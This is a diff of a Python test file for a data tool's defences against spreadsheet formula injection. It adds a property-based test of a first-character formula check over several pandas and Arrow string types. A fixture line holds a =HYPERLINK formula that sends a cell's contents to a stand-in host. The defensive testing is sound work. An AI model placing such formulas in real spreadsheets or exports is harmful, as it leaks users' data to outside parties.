@@ -6,10 +6,13 @@ import csv
 from pathlib import Path
 
 import pandas as pd
+import pyarrow as pa
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from alignment.cli import main
-from alignment.inputs import check_folder, formula_text_warnings
+from alignment.inputs import FORMULA_STARTS, _starts_like_formula, check_folder, formula_text_warnings
 from tests.tiny_company import replace_line, write_company
 
 FORMULA_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"Open invoice")'
@@ -98,3 +101,21 @@ def test_csv_tables_keep_the_text_as_it_is(tmp_path: Path) -> None:
         names = {row["customer_id"]: row["customer_name"] for row in csv.DictReader(fh)}
     assert names["C002"] == FORMULA_NAME
     assert _csv_cell(FORMULA_NAME) in (tmp_path / "out" / "final_quotas.csv").read_text(encoding="utf-8")
+
+
+texts = st.lists(st.one_of(st.text(alphabet="=+-@\t\r a1é.", max_size=4), st.none()), max_size=30)
+
+
+@given(texts, st.integers(min_value=0, max_value=5), st.sampled_from(["str", "object", "chunked"]))
+def test_the_first_character_test_is_the_regular_expression(values, skip, kind) -> None:
+    if kind == "chunked":  # several Arrow chunks, as a large Parquet file reads
+        half = len(values) // 2
+        chunks = pa.chunked_array(
+            [pa.array(values[:half], pa.large_string()), pa.array(values[half:], pa.large_string())]
+        )
+        s = pd.Series(pd.arrays.ArrowStringArray(chunks))
+    else:
+        s = pd.Series(values, dtype=kind)
+    s = s.iloc[skip:]  # a slice: Arrow arrays with an offset
+    expected = s.astype(object).map(lambda v: isinstance(v, str) and v[:1] in FORMULA_STARTS and v != "")
+    assert _starts_like_formula(s.astype("str")).tolist() == expected.tolist()
